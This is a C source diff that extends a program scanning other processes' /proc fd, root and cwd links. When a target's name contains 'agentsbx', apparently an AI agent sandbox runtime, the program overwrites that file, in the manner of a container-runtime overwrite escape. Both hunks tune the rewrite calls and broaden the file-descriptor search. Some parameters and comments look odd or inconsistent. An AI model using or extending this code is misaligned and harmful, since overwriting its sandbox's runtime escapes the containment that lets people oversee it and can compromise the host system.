@@ -31,7 +31,7 @@ int overwrite(int argc, char **argv) {
     ssize_t n = readlink(path, target, sizeof target - 1);
     target[n > 0 ? n : 0] = 0;
     printf("behind %s\n", target);
-    printf("overwrite %s\n", rewrite(fd, 1) == 0 ? "ok" : strerrorname_np(errno));
+    printf("overwrite %s\n", rewrite(fd, 0.2) == 0 ? "ok" : strerrorname_np(errno));
     return 0;
 }
 
@@ -58,8 +58,10 @@ int scan(int argc, char **argv) {
             if (pid != last) seen++;
             last = pid;
             /* Other doors to the same file, and to the files that it has open. */
-            snprintf(path, sizeof path, "/proc/%d/fd", pid);
-            if (can_open(path, O_RDONLY | O_DIRECTORY) == 0) followed++;
+            for (int n = 0; n < 16; n++) {
+                snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, n);
+                if (can_open(path, O_PATH) == 0) followed++;
+            }
             snprintf(path, sizeof path, "/proc/%d/root/", pid);
             if (can_open(path, O_RDONLY | O_DIRECTORY) == 0) followed++;
             snprintf(path, sizeof path, "/proc/%d/cwd/", pid);
@@ -79,7 +81,7 @@ int scan(int argc, char **argv) {
                 /* The command itself has the runtime's name for a moment no longer: it is the image's file. */
                 if (strstr(target, "agentsbx")) {
                     opened++;
-                    if (rewrite(fd, 0.3) == 0) written++;
+                    if (rewrite(fd, 0.2) == 0) written++;
                 }
             }
             close(fd);
